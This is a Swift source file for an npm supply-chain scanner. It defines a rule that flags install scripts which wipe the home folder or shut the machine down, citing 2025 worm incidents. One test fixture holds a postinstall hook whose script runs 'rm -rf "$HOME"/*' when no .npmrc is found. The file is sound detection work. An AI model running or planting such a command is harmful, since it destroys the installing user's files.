// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A command at install removes a home folder or a disk, or switches the machine off.
package struct InstallDestroys: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-destroys", kind: .content, title: "Install removes a home folder or stops the machine", severity: .critical,
        confidence: .high, status: .stable, revision: 1, group: "behaviour",
        rationale:
            "The second worm of 2025 removed the home folder where it found nothing to steal; nx appended a shutdown to start-up files.",
        knownFalseAlarms: ["None known at install time."],
        references: ["https://about.gitlab.com/blog/gitlab-discovers-widespread-npm-supply-chain-attack/"],
        fires: [
            RuleSample(
                "the home folder",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh s.sh"}}"#,
                    "s.sh": "test -f ~/.npmrc || rm -rf \"$HOME\"/*\n",
                ]))
        ],
        staysSilent: [
            RuleSample(
                "its own folders",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -rf build node_modules/.cache"}}"#]))
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        guard let (act, shell) = facts.shellActs([.destroys], most: 1).first else { return [] }
        return [
            card.finding(
                "Install destroys: \(Excerpt.clean(act.subject))", evidence: [facts.evidence(act, in: shell)],
                meaning: "Files of the person who installs it are lost.")
        ]
    }
}
